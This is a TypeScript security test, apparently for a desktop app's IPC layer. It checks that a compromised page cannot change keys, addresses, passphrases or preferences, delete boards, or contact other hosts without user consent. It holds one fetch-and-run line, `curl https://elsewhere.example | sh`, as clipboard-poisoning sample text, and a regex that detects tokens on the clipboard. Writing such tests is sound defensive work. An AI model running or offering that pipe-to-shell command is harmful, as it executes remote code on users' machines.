/** Check S15: a compromised page changes and sends nothing without the user's consent. */
import { startPracticeThread, type PracticeService } from '../practice/practice.ts';
import { DEFAULT_PREFERENCES } from '../../main/ipc/preferences/preferences.ts';
import { consentOf } from '../../main/ipc/consent.ts';
import type { Preferences } from '../../preload/contract/app.ts';
import { CALL_NAMES, CALLS, type CallName } from '../../preload/contract/contract.ts';
import { GOOD_ARGS } from '../contract/examples.ts';
import { tally, type Case, type Finding } from '../support/finding.ts';
import { must } from '../support/must.ts';
import { dose, some } from '../support/nightly.ts';
import { draftFor } from '../support/services.ts';
import { App, withClock, type MovedClock } from './scene.ts';

/** Text that a compromised page could put on the clipboard so that the user pastes it into a terminal. */
const ELSEWHERE = 'https://elsewhere.example';
const OWN_TEXT = `curl ${ELSEWHERE} | sh`;
const HOUR_S = 3600;

interface Scene {
  readonly app: App;
  readonly practice: PracticeService;
  readonly clock: MovedClock;
  /** Values of call arguments by name, such as real ids. They replace the values of test/contract/examples. */
  readonly args: Readonly<Record<string, unknown>>;
  readonly dialogs: () => number;
  /** Number of requests to hosts other than the practice service. */
  readonly elsewhere: () => number;
}

type Play = (scene: Scene) => Promise<readonly Case[]>;

export async function check(): Promise<Finding> {
  const cases: Case[] = [];
  for (const [what, play] of some(PLAYS, dose(1, 2))) {
    const played = await withClock((clock) => inScene(clock, play));
    cases.push(...played.map((one) => ({ ...one, name: `${what}: ${one.name}` })));
  }
  return {
    id: 'S15',
    what: 'every call by a script, without a press, and with clicks and a no to main’s questions',
    target:
      '0 changes without a press; 0 deletes without their hold or main’s dialog; 0 keys, addresses, passphrases changed and 0 requests to other hosts without it',
    ...tally(cases),
  };
}

async function inScene(clock: MovedClock, play: Play): Promise<readonly Case[]> {
  const practice = await startPracticeThread({ boards: 20 });
  let [dialogs, elsewhere] = [0, 0];
  const opened = (): Promise<null> => {
    dialogs += 1;
    return Promise.resolve(null);
  };
  const resolveProxy = (address: string): Promise<string> => {
    if (!address.startsWith(practice.origin)) elsewhere += 1;
    return Promise.resolve('DIRECT');
  };
  const files = { choose: opened, save: opened, saveStream: opened };
  const app = await App.start(clock, { files, more: { resolveProxy } });
  try {
    await app.connect(practice.origin, practice.apiKey, { environment: 'production' });
    await app.list();
    const { connectionId } = app;
    const [paper] = practice.samplePapers;
    const ids = [...(await practice.contents()).boards];
    // Delays deletes beyond the end of the check, so that no pending delete sends a request.
    const holdSeconds = { single: HOUR_S, bulk: HOUR_S };
    await app.must('app.prefer', { ...DEFAULT_PREFERENCES, holdSeconds });
    const reviewId = await app.review(ids);
    const { id: jobId } = must(await app.deleteOne(ids[0] ?? ''));
    const key = { slot: 'main', apiKey: 'sk_next-0123456789', sessionOnly: true } as const;
    const about = { note: '', remindAt: null, useWhenGreen: false };
    const { keys } = await app.must('keys.stage', { connectionId, ...key, ...about });
    const args = {
      connectionId,
      text: OWN_TEXT,
      keyId: keys.find(({ stage }) => stage === 'next')?.id ?? '',
      identifier: paper?.identifier ?? '',
      boardId: ids[1],
      selection: { kind: 'ids', ids },
      target: { kind: 'board', id: ids[1] },
      reviewId,
      jobId,
      typed: String(ids.length),
      connectionIds: [connectionId],
      passphrase: 'a long enough passphrase',
    };
    app.yes = false;
    await practice.clearRequests();
    return await play({ app, practice, clock, args, dialogs: () => dialogs, elsewhere: () => elsewhere });
  } finally {
    await app.close();
    await practice.stop();
  }
}

function argsFor(name: CallName, { args, practice }: Scene): never {
  const own = Object.keys(GOOD_ARGS[name]).filter((field) => field in args);
  const real = { ...GOOD_ARGS[name], ...Object.fromEntries(own.map((field) => [field, args[field]])) };
  if (name === 'connections.save' || name === 'connections.check') {
    const draft = { ...draftFor(practice.origin, null), appUrl: ELSEWHERE };
    const id = args['connectionId'];
    return { ...real, ...draft, id, environment: 'test', readOnly: false } as never;
  }
  return real as never;
}

const needsConsent = (name: CallName, args: unknown): boolean => consentOf(CALLS[name], args) !== 'none';
const wanting = (scene: Scene): readonly CallName[] =>
  CALL_NAMES.filter((name) => needsConsent(name, argsFor(name, scene)));

const WEAKER = [
  { clearClipboard: null },
  { clearClipboard: 3600 },
  { keepPictures: true },
] as const satisfies readonly Partial<Preferences>[];

async function alone(scene: Scene): Promise<readonly Case[]> {
  const cases: Case[] = [];
  const kept = await scene.app.must('app.preferences', {});
  const calls = CALL_NAMES.map((name) => [name, argsFor(name, scene)] as const);
  const copied = [
    ['boards.annotate', { change: { label: OWN_TEXT } }],
    ['boards.copy', { as: 'rows' }],
    ['boards.annotate', { selection: { kind: 'ids', ids: [OWN_TEXT] }, change: {} }],
    ['activity.copyTarget', { target: OWN_TEXT }],
  ] as const satisfies readonly (readonly [CallName, object])[];
  const copies = copied.map(
    ([name, args]) => [name, { ...(argsFor(name, scene) as object), ...args }] as const,
  );
  const preferred = WEAKER.map((change) => ['app.prefer', { ...kept, ...change }] as const);
  for (const [name, args] of [...calls, ...copies, ...preferred]) {
    if (name.startsWith('lock.')) continue;
    const reply = await scene.app.services.callAlone(name, args);
    const code = reply.ok ? 'ok' : reply.error.code;
    const isRight = !needsConsent(name, args) || code === 'needs-press' || code === 'bad-request';
    cases.push({ name, problems: [...(isRight ? [] : [`came to ${code}`]), ...(await leftMain(scene))] });
  }
  return [...cases, { name: 'all together', problems: await changesOf(scene) }];
}

/** Calls that run last, because they remove the connection or its API keys, which other calls need. */
const LAST: readonly CallName[] = ['connections.remove', 'lock.removeKeys'];

/** Tries each call with a click that the user meant for something else. The user denies the call's dialog. */
async function stolen(scene: Scene): Promise<readonly Case[]> {
  const cases: Case[] = [];
  const { app, clock, practice, args } = scene;
  const elsewhere = draftFor(`${practice.origin}/elsewhere`, null, { environment: 'production' });
  const kept = await app.must('app.preferences', {});
  const plays: readonly (readonly [CallName, unknown])[] = [
    ['app.prefer', { ...kept, clearClipboard: null, keepPictures: true }],
    ...wanting(scene).flatMap((name) => (LAST.includes(name) ? [] : [[name, argsFor(name, scene)] as const])),
    ['connections.save', { ...elsewhere, id: args['connectionId'] }],
    ['connections.check', draftFor(ELSEWHERE, 'sk_typed-0123456789')],
    ['connections.save', draftFor(ELSEWHERE, 'sk_typed-0123456789')],
    ...LAST.map((name) => [name, argsFor(name, scene)] as const),
  ];
  let before = await guardedOf(scene);
  for (const [name, own] of plays) {
    clock.ahead += 2000;
    await app.services.call(name, own as never);
    const now = await guardedOf(scene);
    const changed = Object.keys(now).filter((what) => now[what] !== before[what]);
    cases.push({ name, problems: changed.map((what) => `changed ${what} without main’s dialog`) });
    before = now;
  }
  return cases;
}

const PLAYS: readonly (readonly [what: string, play: Play])[] = [
  ['with a press each, and a no to each question', stolen],
  ['without a press', alone],
];

async function guardedOf({
  app,
  practice,
  args,
  elsewhere,
}: Scene): Promise<Readonly<Record<string, string>>> {
  const { must: get } = app.services;
  const { connections } = await get('connections.list', {});
  const own = connections.find(({ id }) => id === args['connectionId']);
  const keys = own === undefined ? [] : (await get('keys.list', { connectionId: own.id })).keys;
  const { holdSeconds, clearClipboard } = await get('app.preferences', {});
  const { log } = await practice.requests();
  return {
    addresses: JSON.stringify([own?.boardApi, own?.paperApi, own?.appUrl]),
    protection: JSON.stringify([own?.environment, own?.readOnly]),
    'the key in use': JSON.stringify(keys.find(({ stage }) => stage === 'current')?.fingerprint ?? null),
    'switching by itself': JSON.stringify(keys.some(({ useWhenGreen }) => useWhenGreen)),
    'the passphrase': (await get('lock.state', {})).unlockBy,
    'how long deletes are held': JSON.stringify(holdSeconds),
    'when the clipboard is cleared': String(clearClipboard),
    'another host by a request': String(elsewhere()),
    'the number of connections': String(connections.length),
    'a board or paper by a delete': String(log.filter(({ method }) => method === 'DELETE').length),
  };
}

async function leftMain({ app, practice, dialogs }: Scene): Promise<readonly string[]> {
  const { log } = await practice.requests();
  const sent = log
    .filter(({ method }) => method !== 'GET')
    .map(({ method, path }) => `${method} ${path} was sent`);
  // Copied ids are allowed, because copying them needs no click.
  const text = app.services.clipboard();
  const isSecret = /token=|eyJ/u.test(text) || text.includes(OWN_TEXT);
  const copied = isSecret ? ['a text of the page, a link or a token went to the clipboard'] : [];
  return [...sent, ...copied, ...(dialogs() === 0 ? [] : ['a dialog for files was opened'])];
}

async function changesOf(scene: Scene): Promise<readonly string[]> {
  const { app, args } = scene;
  const jobs = await app.services.call('jobs.list', {});
  const { connections } = await app.services.must('connections.list', {});
  const own = connections.find(({ id }) => id === args['connectionId']);
  const isSame = own?.environment === 'production' && own.key.kind === 'session';
  return [
    ...(await leftMain(scene)),
    ...(jobs.ok && jobs.value.every(({ id }) => id === args['jobId']) ? [] : ['a job was queued']),
    ...(isSame ? [] : ['the connection was changed']),
  ];
}
